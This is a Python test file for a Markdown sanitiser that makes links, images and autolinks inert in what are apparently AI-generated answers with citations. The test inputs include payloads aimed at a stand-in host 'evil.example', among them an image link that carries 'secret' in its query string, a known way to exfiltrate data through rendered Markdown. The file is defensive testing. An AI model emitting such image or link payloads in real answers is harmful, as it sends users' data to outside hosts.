"""Answers are Markdown, but nothing in them may make the browser fetch or link anywhere."""

from app.views.common import inert_markdown


def test_images_links_and_addresses_are_made_inert():
    answer = (
        "The limit is EUR 220 [1]. ![x](https://evil.example/?q=secret) and ![](http://evil.example/a.png) "
        "see [the policy](https://evil.example/p) or https://evil.example/raw or <http://evil.example/auto>.\n"
        "![ref][1]\n[1]: https://evil.example/ref"
    )
    out = inert_markdown(answer)
    assert "](" not in out and "![" not in out and "\n[1]:" not in out
    for url in ("https://evil.example/p", "https://evil.example/raw", "http://evil.example/auto"):
        assert f"`{url}`" in out  # shown as code: never a live link
    assert "evil.example/?q=secret" not in out and "a.png" not in out  # images: only their alt text
    assert "(image: x)" in out and "the policy (`https://evil.example/p`)" in out


def test_citations_and_dollar_amounts_are_left_alone():
    answer = "Net sales were $81,797 million and $82,959 million [1][2]. 远程办公每周三天 [3]。"
    assert inert_markdown(answer) == answer


def test_nested_brackets_quoted_definitions_and_citations_followed_by_links_stay_inert():
    """What the regular expressions alone let through: an image whose alt text holds brackets, a reference
    definition inside a quote, a citation made into a link or a reference."""
    out = inert_markdown("![a [b] c](//host/x.png) and [1](//host/y) [2][ref] [3]: z\n> [ref]: //host/q\n> [ref]")
    assert "//host/q" not in out  # the quoted definition is dropped
    assert "](" not in out.replace("\\](", "") and "][" not in out.replace("]\\[", "")
    assert "\\[a \\[b\\] c\\]" in out and "[2]\\[ref\\]" in out and "[3]\\:" in out
    assert inert_markdown("mail <x@y.example>") == "mail \\<x@y.example>"  # no e-mail autolink
    assert inert_markdown("see www.evil.example/a now") == "see `www.evil.example/a` now"  # GFM links www.
